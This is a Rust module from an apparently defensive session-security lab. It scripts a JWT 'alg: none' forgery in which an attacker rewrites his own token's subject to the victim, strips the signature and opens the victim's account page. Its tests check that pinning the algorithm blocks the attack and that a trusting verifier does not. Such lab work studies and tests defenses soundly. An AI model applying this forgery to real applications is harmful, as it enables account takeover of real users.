//! `jwt-none`: rewrite one's own token to `alg: none` and the victim's name.
//!
//! The attacker signs in as himself and finds a JWT among his cookies. He
//! keeps its claims, sets `"sub"` to the victim, sets the header to
//! `{"alg": "none"}` and drops the signature. A verifier that reads the
//! algorithm from the token itself believes it; one that checks HS256
//! whatever the header says refuses it, and server-side sessions hand out
//! no token to rewrite.

use crate::actors::{judge, log_in, probe_account, read_own_note, session_id, short, token_cookie};
use crate::lab::{RunContext, RunError, plant_cookie};
use crate::outcome::{Actor, Verdict};
use crate::tokens;

pub async fn run(ctx: &mut RunContext) -> Result<Verdict, RunError> {
    let mut victim = ctx.browser(Actor::Victim, "victim");
    log_in(ctx, &mut victim, &ctx.victim).await?;
    let note = read_own_note(ctx, &mut victim).await?;
    ctx.step(
        Actor::Victim,
        format!("{} logged in and opened her account", ctx.victim.username),
        "saw her private note",
    );

    let mut attacker = ctx.browser(Actor::Attacker, "attacker");
    log_in(ctx, &mut attacker, &ctx.attacker).await?;
    let action = format!(
        "logged in as {} and looked in his own cookies for a token",
        ctx.attacker.username
    );
    let Some((name, value)) = token_cookie(&attacker) else {
        let id = session_id(ctx, &attacker).unwrap_or_default();
        let evidence = format!(
            "his cookies hold no token, only the session ID {}: there is no token to rewrite",
            short(&id)
        );
        let step = ctx.step(Actor::Attacker, action, &evidence);
        return Ok(Verdict::blocked(evidence, step));
    };
    let jwt =
        tokens::decode(&value).ok_or_else(|| RunError::Lab("the token stopped decoding".into()))?;
    ctx.step(
        Actor::Attacker,
        action,
        format!(
            "cookie {name} is a JWT: header {}, claims {}",
            serde_json::Value::Object(jwt.header.clone()),
            serde_json::Value::Object(jwt.claims.clone())
        ),
    );

    let mut claims = jwt.claims.clone();
    claims.insert("sub".into(), ctx.victim.username.clone().into());
    let rewritten = tokens::unsigned(&claims);
    let account = ctx.app_url("/account");
    let mut forger = ctx.browser(Actor::Attacker, "attacker-unsigned");
    plant_cookie(&mut forger, &account, &name, &rewritten);
    let probe = probe_account(&mut forger, account).await?;
    Ok(judge(
        ctx,
        &format!(
            "rewrote the token: header {{\"alg\": \"none\"}}, \"sub\": \"{}\", no signature; opened /account with it",
            ctx.victim.username
        ),
        &probe,
        &note,
        &format!(
            "a token rewritten to alg none and sub {} ({})",
            ctx.victim.username,
            short(&rewritten)
        ),
        "the unsigned token",
    ))
}

#[cfg(test)]
mod tests {
    use sessionlab_app::{Defense, Profile, ProfileName};

    use crate::actors::run_against;
    use crate::outcome::Outcome;

    #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
    async fn a_pinned_algorithm_refuses_what_a_trusting_verifier_believes() {
        let pinned = Profile::new(ProfileName::Insecure).with(Defense::PinnedAlgorithm);
        let result = run_against("jwt-none", pinned).await;
        assert_eq!(result.outcome, Outcome::Blocked, "{}", result.evidence);
        assert!(
            result.evidence.contains("opened nothing"),
            "{}",
            result.evidence
        );

        let trusting = Profile::new(ProfileName::Hardened)
            .without(Defense::ServerSideSessions)
            .without(Defense::PinnedAlgorithm);
        let result = run_against("jwt-none", trusting).await;
        assert_eq!(result.outcome, Outcome::Compromised, "{}", result.evidence);
    }
}
